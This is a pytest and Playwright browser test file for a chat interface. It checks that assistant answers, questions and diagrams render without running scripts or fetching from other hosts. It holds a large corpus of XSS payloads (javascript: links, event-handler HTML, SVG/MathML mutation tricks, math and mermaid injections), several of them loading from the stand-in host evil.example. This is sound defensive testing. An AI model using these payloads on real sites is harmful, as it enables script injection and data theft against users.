"""What a model, or a person, may write: none of it runs, is fetched from elsewhere, or breaks the site's policy."""

from collections.abc import Callable
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Route, expect

from tests.browser.tab import Tab
from tests.upstream import Upstream, prompt

RUN = "window.ran=(window.ran||0)+1"
EVIL = "https://evil.example"
WITNESS = """() => {
    window.ran = 0;
    window.refused = [];
    document.addEventListener("securitypolicyviolation", (event) => {
        refused.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
    });
}"""

LINKS = [
    f"[a]({scheme}{RUN})"
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java&#10;script:",
        "&#106;avascript:",
        "javascript&colon;",
        "vbscript:",
        "data:text/html,<script>parent.",
        "\x01javascript:",
        "java\tscript:",
        "javascript:%0a",
        "view-source:javascript:",
        "blob:",
    )
]
HTML = [
    f"<script>{RUN}</script>",
    f"<ScRiPt src={EVIL}/x.js></ScRiPt>",
    f"<img src=x onerror={RUN}>",
    f"<img src={EVIL}/pixel.png>",
    f'<img srcset="{EVIL}/p.png 1x">',
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f'<svg><use href="{EVIL}/x.svg#a"></use></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f'<math href="javascript:{RUN}">x</math>',
    f'<math><annotation-xml encoding="text/html"><img src=x onerror={RUN}></annotation-xml></math>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src={EVIL}></iframe>",
    f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>",
    f"<style>@import url({EVIL}/x.css);body{{background:url({EVIL}/b.png)}}</style>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=prefetch href={EVIL}/p>",
    f"<base href={EVIL}/>",
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video src={EVIL}/v.mp4 onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<b onmouseover={RUN} style=position:fixed;inset:0>x</b>",
    f"<p style=animation-name:breathe onanimationstart={RUN}>x</p>",
    f"<a href=javascript:{RUN}>x</a>",
    f'<a href="{EVIL}" ping="{EVIL}/ping">x</a>',
    f"<table background={EVIL}/t.png><td>x</td></table>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f"<template><script>{RUN}</script></template>",
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>',
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<b <script>{RUN}</script>",
    f"<form><form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    "<a id=app name=cookie href=x>clobber</a><form name=body><input name=firstChild></form>",
    f'<div title="\n\n$x$\n\n"><img src=x onerror={RUN}>',
]
MARKDOWN = [
    f'![a"onerror="{RUN}]({EVIL}/p.png)',
    f'![a](x"onerror="{RUN})',
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    f'![a](/api/attachments/1"onerror="{RUN})',
    f'[a](https://a.example "x\\"onclick=\\"{RUN}")',
    f"<javascript:{RUN}>",
    f"[a]: javascript:{RUN}\n\n[a]",
    f'```"><img/src=x/onerror={RUN}>\ncode\n```',
    f"- ```<img/src=x/onerror={RUN}>\n  code\n  ```",
    f"| <img src=x onerror={RUN}> |\n|---|\n| <svg onload={RUN}> |",
    f'so[^"><img/src=x/onerror={RUN}>]\n\n[^"><img/src=x/onerror={RUN}>]: y',
    f"# <img src=x onerror={RUN}>",
    f"```html\n<img src=x onerror={RUN}>\n</span><script>{RUN}</script>\n```",
]
MATH = [
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$$\\url{{javascript:{RUN}}}$$",
    f"\\(\\includegraphics{{{EVIL}/p.png}}\\)",
    f"$\\htmlData{{onclick={RUN}}}{{x}}$",
    f"$\\text{{<img src=x onerror={RUN}>}}$",
    f'$\\color{{"onclick={RUN}}}x$',
    "$\\def\\a{\\a\\a}\\a$",
    f'$\\undefined"><img src=x onerror={RUN}>$',
]
DIAGRAMS = [
    f'```mermaid\nflowchart LR\n  A[x] --> B\n  click A "javascript:parent.{RUN}"\n```',
    f'```mermaid\ngraph LR\n  A["<a href=\'javascript:{RUN}\'>x</a>"]-->B\n  click A call parent.eval("{RUN}")\n```',
]
CORPUS = LINKS + HTML + MARKDOWN + MATH


@pytest.fixture
def watched(tab: Tab) -> Callable[[], None]:
    """Counts scripts that run, requests that leave the site, refusals of its policy; to be asked for none."""
    left: list[str] = []

    def elsewhere(route: Route) -> None:
        if urlsplit(route.request.url).netloc == urlsplit(tab.url).netloc:
            route.continue_()
        else:
            left.append(route.request.url)
            route.abort()

    tab.page.route("**/*", elsewhere)
    tab.page.evaluate(WITNESS)

    def check() -> None:
        # Handlers wait for the mouse, the focus or a click.
        tab.page.evaluate(_POKE)
        tab.wait_until_still()
        assert tab.page.evaluate("[window.ran, window.refused]") == [0, []]
        assert left == []

    return check


# Links that open elsewhere are left alone: what they open is not this page.
_POKE = """() => {
    for (const element of document.querySelectorAll("article *")) {
        for (const type of ["mouseover", "focus", "toggle", "load", "error"]) element.dispatchEvent(new Event(type));
        const href = element.getAttribute?.("href");
        if (href && !/^(https?:|mailto:|\\/|[^:]*$)/.test(href)) window.refused.push(href);
        for (const { name } of element.attributes) if (name.startsWith("on")) window.refused.push(name);
    }
}"""


def test_the_corpus_is_large() -> None:
    assert len(CORPUS + DIAGRAMS) >= 60


@pytest.mark.parametrize("size", [3, 10_000])
def test_nothing_of_an_answer_runs_while_it_streams_and_when_it_is_final(
    tab: Tab, watched: Callable[[], None], upstream: Upstream, size: int
) -> None:
    text = "\n\n".join([*CORPUS, "The end."])
    # The last delta waits, so that the streaming view is seen with nearly all of it.
    tab.ask(prompt(text=text, size=size, gate="rest", after=max(len(text) // size - 1, 0)))
    if size < len(text):
        expect(tab.text).to_contain_text("clobber")
    watched()
    upstream.open("rest")
    tab.wait_until_ended()
    watched()
    tab.page.reload()
    tab.page.evaluate(WITNESS)
    expect(tab.text).to_contain_text("The end.")
    watched()


def test_nothing_of_a_diagram_runs(tab: Tab, watched: Callable[[], None]) -> None:
    tab.ask(prompt(text="\n\n".join(DIAGRAMS)))
    tab.wait_until_ended()
    expect(tab.text.locator("iframe:not(.drawn)")).to_have_count(0)
    for frame in tab.page.frames[1:]:
        frame.evaluate("document.querySelectorAll('svg *').forEach((it) => it.dispatchEvent(new MouseEvent('click')))")
    watched()


def test_nothing_of_a_question_or_a_title_runs(tab: Tab, watched: Callable[[], None]) -> None:
    payload = f"<img src=x onerror={RUN}><svg onload={RUN}>"
    tab.ask(payload)
    tab.wait_until_ended()
    expect(tab.questions.last).to_have_text(payload)
    expect(tab.rows.first).to_contain_text("<img src=x")
    watched()
